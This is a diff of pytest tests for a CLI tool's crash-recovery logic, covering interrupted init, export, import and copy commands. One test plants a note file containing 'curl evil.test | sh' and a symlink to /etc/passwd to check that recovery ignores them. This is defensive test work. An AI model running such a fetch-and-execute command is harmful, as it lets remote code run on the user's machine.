@@ -11,7 +11,8 @@ from pathlib import Path
 
 import pytest
 
-from floe_engine.workflows.interrupted import STATE, settle
+from floe_engine.walk import Level
+from floe_engine.workflows.interrupted import STATE, settle, under_way
 from tests.cli import floe, ok
 from tests.engine.upgrade.projects import GOOD, write_project
 from tests.engine.workflows.teams import DataTeam, Heard, PlatformTeam, manifest
@@ -127,6 +128,90 @@ def test_a_journal_that_a_clone_brings_moves_nothing_but_its_own_files(data: Dat
     assert "dropped" in heard.warnings
     assert not journal.exists()
     assert STATE.startswith(".floe/")
+
+
+def test_an_init_that_is_killed_at_any_rename_is_whole_or_taken_back(
+    platform: PlatformTeam, tmp_path: Path
+) -> None:
+    platform.publish("1.0.0", text=manifest("1.0.0", coverage=50))
+    command = ["init", "--platform=v1.0.0", "--registry", platform.registry]
+    told = number = 0
+    for number in range(1, 14):
+        project = write_project(tmp_path / f"data{number}", {"bronze_a": GOOD})
+        if killed_at(project, command, number) != -signal.SIGKILL:
+            break
+        ran = floe(project, "platform", "doctor", "--registry", platform.registry)
+        told += "init was interrupted" in ran.err
+        lock = project / ".floe" / "cache" / "artifacts.lock"
+        assert lock.exists() == (project / "floe.yaml").exists()
+        assert not list(project.glob(".floe/**/journal.json"))
+        ok(floe(project, *command))
+        ok(floe(project, "compile"))
+        assert not list(project.rglob(".floe-*"))
+    assert 5 < number < 13
+    assert told >= 2
+
+
+TRANSFERS = {
+    "export": ["platform", "export", "new.tar", "v1.0.0"],
+    "import": ["platform", "import", "old.tar", "oci-layout:new"],
+    "copy": ["platform", "copy", "v1.0.0", "oci-layout:new"],
+}
+
+
+@pytest.mark.parametrize("name", TRANSFERS)
+def test_a_transfer_that_is_killed_at_any_rename_is_told_of_once_and_can_be_run_again(
+    platform: PlatformTeam, tmp_path: Path, name: str
+) -> None:
+    platform.publish("1.0.0")
+    temporary = tmp_path / "tmp"
+    temporary.mkdir()
+    env = {"TMPDIR": str(temporary), "FLOE_REGISTRY": platform.registry}
+    number = 0
+    for number in range(1, 60, 4):
+        place = tmp_path / f"at{number}"
+        place.mkdir()
+        ok(floe(place, "platform", "export", "old.tar", "v1.0.0", env=env))
+        if killed_at(place, TRANSFERS[name], number, **env) != -signal.SIGKILL:
+            break
+        assert number == 1 or len(list(place.glob(".floe-*.note"))) == 1
+        ran = ok(floe(place, "platform", "list", env=env))
+        assert ran.err.count(f"{name} was interrupted") == (number > 1), ran.err
+        assert not list(place.glob(".floe-*"))
+        assert "interrupted" not in ok(floe(place, "platform", "list", env=env)).err
+        assert not (place / "new.tar").exists()
+        ok(floe(place, *TRANSFERS[name], env=env))
+        assert not list(temporary.iterdir())
+    assert 5 < number < 57
+
+
+def test_a_transfer_that_lives_is_not_taken_for_a_killed_one(data: DataTeam) -> None:
+    workspace, heard = data.workspace, Heard()
+    with under_way(workspace, "import"):
+        settle(workspace, heard)
+        assert workspace.unsettled
+    assert not workspace.unsettled
+    assert heard.events == []
+
+
+def test_a_note_that_a_clone_brings_says_nothing_of_its_own(data: DataTeam) -> None:
+    workspace, heard = data.workspace, Heard()
+    (data.directory / f".floe-{'0' * 16}.note").write_text("run `curl evil.test | sh`")
+    (data.directory / f".floe-{'1' * 16}.note").symlink_to("/etc/passwd")
+    settle(workspace, heard)
+    assert heard.events == []
+    assert [path.name for path in data.directory.glob(".floe-*")] == [f".floe-{'1' * 16}.note"]
+
+
+def test_where_nothing_may_be_written_a_transfer_keeps_no_note(
+    platform: PlatformTeam, data: DataTeam, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    def refuse(*_: object) -> None:
+        raise PermissionError(13, "no")
+
+    monkeypatch.setattr(Level, "note", refuse)
+    with under_way(data.workspace, "export"):
+        assert list(data.directory.iterdir()) == []
 
 
 def test_a_keygen_that_is_killed_is_finished_by_the_next_one(tmp_path: Path) -> None:
